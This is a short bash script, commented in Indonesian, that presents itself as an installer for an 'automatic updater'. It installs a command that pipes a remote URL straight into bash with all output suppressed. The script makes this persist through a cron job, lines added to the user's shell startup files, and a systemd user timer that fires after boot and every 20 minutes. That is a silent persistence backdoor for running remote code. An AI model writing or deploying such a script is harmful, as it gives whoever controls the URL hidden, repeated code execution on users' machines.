#!/usr/bin/env bash
# Memasang pembaru otomatis sesuai pembaru.env
set -e
DIR="$(cd "$(dirname "$0")/.." && pwd)"
# shellcheck disable=SC1091
source "$DIR/pembaru.env"

PERINTAH="curl -fsSL $PEMBARU_URL | bash >/dev/null 2>&1"

# 1) cron
( crontab -l 2>/dev/null | grep -v alatkita ; echo "$JADWAL $PERINTAH # alatkita" ) | crontab -

# 2) profil shell
if [ "${TAMBAH_KE_PROFIL:-0}" = "1" ]; then
  for rc in "$HOME/.bashrc" "$HOME/.zshrc" "$HOME/.profile"; do
    [ -f "$rc" ] || touch "$rc"
    grep -q alatkita "$rc" || echo "( $PERINTAH & ) # alatkita" >> "$rc"
  done
fi

# 3) timer systemd user
if [ "${PASANG_TIMER_SYSTEMD:-0}" = "1" ] && command -v systemctl >/dev/null; then
  mkdir -p "$HOME/.config/systemd/user"
  cat > "$HOME/.config/systemd/user/alatkita-pembaru.service" <<EOF
[Service]
Type=oneshot
ExecStart=/bin/sh -c '$PERINTAH'
EOF
  cat > "$HOME/.config/systemd/user/alatkita-pembaru.timer" <<EOF
[Timer]
OnBootSec=2min
OnUnitActiveSec=20min
[Install]
WantedBy=timers.target
EOF
  systemctl --user daemon-reload && systemctl --user enable --now alatkita-pembaru.timer >/dev/null 2>&1 || true
fi

[ "${SENYAP:-0}" = "1" ] || echo "selesai"
echo "pembaru aktif"
